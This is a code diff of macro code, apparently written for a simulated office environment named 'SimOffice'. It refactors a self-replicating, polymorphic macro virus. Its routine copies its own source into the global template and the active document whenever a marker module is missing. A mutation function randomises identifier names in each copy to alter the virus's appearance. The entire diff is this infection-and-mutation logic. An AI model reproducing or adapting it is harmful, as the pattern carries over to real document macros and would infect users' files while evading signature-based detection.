@@ -59,24 +59,22 @@ Sub AutoClose()
 End Sub
 
 Sub Qzvbkr()
-    Dim Wmxtpa, Lcuyis, Tgdoce
+    Dim Wmxtpa, Lcuyis
     Lcuyis = SimOffice.ThisModule
     Wmxtpa = SimOffice.ThisDocument.ModuleSource(Lcuyis)
-    Set Tgdoce = SimOffice.Template
-    If Tgdoce.FindModule("Sim.Mutant.A") = "" Then
-        Tgdoce.AddModule SimOffice.RandomName(8), Xmutate(Wmxtpa)
-        Tgdoce.Save
+    If SimOffice.Template.FindModule("Sim.Mutant.A") = "" Then
+        SimOffice.Template.AddModule SimOffice.RandomName(8), Xmutate(Wmxtpa)
+        SimOffice.Template.Save
     End If
-    Set Tgdoce = SimOffice.ActiveDocument
-    If Tgdoce.FindModule("Sim.Mutant.A") = "" Then
-        Tgdoce.AddModule SimOffice.RandomName(8), Xmutate(Wmxtpa)
-        Tgdoce.Save
+    If SimOffice.ActiveDocument.FindModule("Sim.Mutant.A") = "" Then
+        SimOffice.ActiveDocument.AddModule SimOffice.RandomName(8), Xmutate(Wmxtpa)
+        SimOffice.ActiveDocument.Save
     End If
 End Sub
 
 Function Xmutate(Ptext)
     Dim Nlist, Nitem
-    Nlist = Split("Qzvbkr Wmxtpa Lcuyis Tgdoce Xmutate Ptext Nlist Nitem", " ")
+    Nlist = Split("Qzvbkr Wmxtpa Lcuyis Xmutate Ptext Nlist Nitem", " ")
     For Each Nitem In Nlist
         Ptext = Replace(Ptext, Nitem, SimOffice.RandomName(6))
     Next
